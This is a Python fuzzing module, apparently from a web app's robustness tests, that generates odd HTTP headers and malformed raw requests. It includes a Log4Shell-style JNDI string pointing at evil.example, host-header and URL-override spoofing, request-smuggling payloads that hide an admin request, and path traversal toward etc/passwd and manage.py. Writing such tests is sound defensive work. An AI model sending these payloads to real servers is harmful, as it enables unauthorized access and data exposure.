"""Odd headers, and requests that are hardly HTTP."""

import random

Headers = list[tuple[str, str | bytes]]

ODD: list[tuple[str, list[str | bytes]]] = [
    ("Host", ["", "evil.example", "127.0.0.1:99999", "a" * 5000, "[::1", "x y", "127.0.0.1@evil.example", b"\xff"]),
    ("X-Forwarded-Host", ["evil.example"]),
    ("X-Forwarded-Proto", ["https", "gopher", "http, https", ""]),
    ("X-Forwarded-For", ["1.2.3.4, 5.6.7.8", "x" * 3000, "::ffff:1.2.3.4", "unknown", "', 1", "1.2.3.4:80", ","]),
    ("Forwarded", ["for=1.2.3.4;host=evil.example;proto=https"]),
    ("X-HTTP-Method-Override", ["DELETE", "PUT"]),
    ("X-Original-URL", ["/staff/admin/"]),
    ("X-Rewrite-URL", ["/staff/admin/"]),
    ("Accept-Language", ["xx", "fr-" + "a" * 900, "*;q=x", "en;q=999999", ",,,,", b"\xff\xfe", "fr;q=0.5," * 400, "../../x"]),
    ("Accept", ["application/json", "*/*;q=x", "text/html;charset=" + "x" * 900, b"\x80", "image/png", ""]),
    ("Range", ["bytes=0-1", "bytes=-1", "bytes=9999999999999999999-", "bytes=0-0," * 300, "lines=1-2"]),
    ("If-Modified-Since", ["yesterday", "Wed, 31 Feb 2026 99:99:99 GMT", "0", "Thu, 01 Jan 99999 00:00:00 GMT"]),
    ("If-None-Match", ["*", '"x"', "W/", '"' * 500]),
    ("Content-Type", ["application/json", "multipart/form-data", "\x7f"]),
    ("Content-Encoding", ["gzip", "br", "identity, gzip"]),
    ("Expect", ["100-continue", "200-ok"]),
    ("Referer", ["https://evil.example/", "", "x", "https://[::1", b"\xff", "data:,"]),
    ("Origin", ["https://evil.example", "null", "", "x", "https://[", "http://127.0.0.1:1"]),
    ("Authorization", ["Bearer x", "Basic !!!!", "Bearer " + "x" * 4000, "Digest username=", "Token \xff"]),
    ("X-CSRFToken", ["x", "a" * 32, "a" * 5000, b"\xff"]),
    ("X-Request-ID", ["x", "a" * 64, "a" * 65, "a\tb", "<script>", b"\xff"]),
    ("Idempotency-Key", ["x", "x" * 5000]),
    ("Upgrade", ["h2c", "websocket", "TLS/1.0"]),
    ("Sec-Fetch-Site", ["cross-site", "x"]),
    ("User-Agent", ["", "x" * 5000, b"\xff", "${jndi:ldap://evil.example/a}", "%s%s%n"]),
    ("Cookie", [
        "sessionid=x; csrftoken=y", "sessionid=" + "a" * 3000, "sessionid=\x01", b"sessionid=\xff\xfe", "=;=;==;;",
         "$Version=1; a=b",
        "sessionid=a; sessionid=b", "messages=x:y:z", "messages=" + "W" * 3000, "language=../..", "django_language=xx", 'a="b; c',
        "__Host-session=x; __Host-csrf=y; __Host-messages=[[1]]:x:y; __Host-language=zz",
        "; ".join(f"c{n}=1" for n in range(300)),
    ]),
]  # fmt: skip


def odd(roll: random.Random, headers: Headers) -> Headers:
    """Return the headers with one or a few replaced or added."""
    found = list(headers)
    for name, values in roll.sample(ODD, roll.choice([1, 1, 2, 4])):
        if roll.random() < 0.7:
            found = [(known, value) for known, value in found if known.lower() != name.lower()]
        found.append((name, roll.choice(values)))
    if not any(name.lower() == "host" for name, _ in found):
        found.insert(0, ("Host", "127.0.0.1"))
    return found


METHODS = [
    "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "PURGE", "get", "G" * 300,
    "X-\x7f",
]  # fmt: skip


def raw(roll: random.Random, host: str, path: str) -> bytes:
    """Return bytes that look like a request, or like two."""
    h, p = host.encode(), path.encode("utf-8", "surrogatepass")
    get = b"GET " + p + b" HTTP/1.1\r\nHost: " + h + b"\r\n"
    post = b"POST " + p + b" HTTP/1.1\r\nHost: " + h + b"\r\n"
    hidden = b"GET /staff/admin/ HTTP/1.1\r\nHost: " + h + b"\r\n\r\n"
    form = b"Content-Type: application/x-www-form-urlencoded\r\n"
    return roll.choice([
        post + form + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        post + form + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
        post + form + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
        post + form + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef" + hidden,
        post + form + b"Content-Length: +5\r\n\r\nabcde",
        post + form + b"Content-Length: 5, 5\r\n\r\nabcde",
        post + form + b"Content-Length : 5\r\n\r\nabcde",
        post + form + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
        post + form + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nx",
        post + form + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
        post + form + b"Transfer-Encoding: chunked\r\n\r\n5;x=" + b"y" * 5000 + b"\r\nabcde\r\n0\r\nX: y\r\n\r\n",
        get + b"X: a\r\n b: folded\r\n\r\n",
        get + b"X\x00: y\r\n\r\n",
        get + b": y\r\n\r\n",
        get + b"X: " + b"y" * 40_000 + b"\r\n\r\n",
        get + b"".join(b"X-%d: y\r\n" % n for n in range(3000)) + b"\r\n",
        get.replace(b"HTTP/1.1", b"HTTP/9.9") + b"\r\n",
        get.replace(b"HTTP/1.1", b"HTTP/1.0") + b"\r\n",
        get.replace(b"\r\n", b"\n") + b"\n",
        get.replace(b"Host", b"X") + b"\r\n",
        get + b"Host: evil.example\r\n\r\n",
        b"GET http://evil.example" + p + b" HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p + b"?" + b"a" * 40_000 + b" HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET /" + b"../" * 50 + b"etc/passwd HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET /static/%2e%2e/%2e%2e/manage.py HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET /static/..%2f..%2fmanage.py HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET /static/%00 HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET //evil.example/%2f.. HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p.replace(b"/", b"%2f") + b" HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p + b"%00 HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p + b"\x00 HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p + b"%ff%fe%c0%80 HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET " + p + b"#x HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"GET * HTTP/1.1\r\nHost: " + h + b"\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET  " + p + b"  HTTP/1.1\r\n\r\n",
        b"\r\n\r\n\r\n" + get + b"\r\n",
        b"\x00" * 500 + b"\r\n\r\n",
    ])  # fmt: skip
